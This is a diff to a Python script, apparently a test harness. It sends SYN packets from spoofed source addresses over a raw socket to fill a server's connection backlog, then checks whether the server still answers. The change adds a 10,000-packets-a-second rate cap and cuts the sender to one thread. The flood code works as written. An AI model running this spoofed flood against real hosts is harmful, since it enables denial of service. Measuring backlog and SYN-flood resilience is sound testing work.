@@ -55,13 +55,20 @@ def tcp(source, sport, dport, flags, offset=5, options=b"", data=b"", urgent=0):
     return h[:16] + struct.pack("!H", checksum(pseudo + h)) + h[18:]
 
 
+RATE = 10000  # a second: a place is another's after 12 ms
+
+
 def flood(port):  # 400 senders that do not exist, and 40,000 first packets
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     stop = threading.Event()
     sent = [0]
 
     def send():
+        begin = time.monotonic()
         while not stop.is_set():
+            if sent[0] > (time.monotonic() - begin) * RATE:
+                time.sleep(0.001)
+                continue
             source = f"198.51.100.{random.randrange(1, 255)}"
             try:
                 s.sendto(ip4(tcp(source, random.randrange(1024, 65536), port, 2), 6, source), (host, 0))
@@ -69,9 +76,8 @@ def flood(port):  # 400 senders that do not exist, and 40,000 first packets
             except OSError:
                 time.sleep(0.001)
 
-    threads = [threading.Thread(target=send) for _ in range(2)]
-    for t in threads:
-        t.start()
+    sender = threading.Thread(target=send)
+    sender.start()
     time.sleep(1)  # every place is taken by now
     for _ in range(5):
         answers(10)
@@ -79,8 +85,7 @@ def flood(port):  # 400 senders that do not exist, and 40,000 first packets
         time.sleep(0.1)
     answers(10)
     stop.set()
-    for t in threads:
-        t.join()
+    sender.join()
     answers(10)
 
 
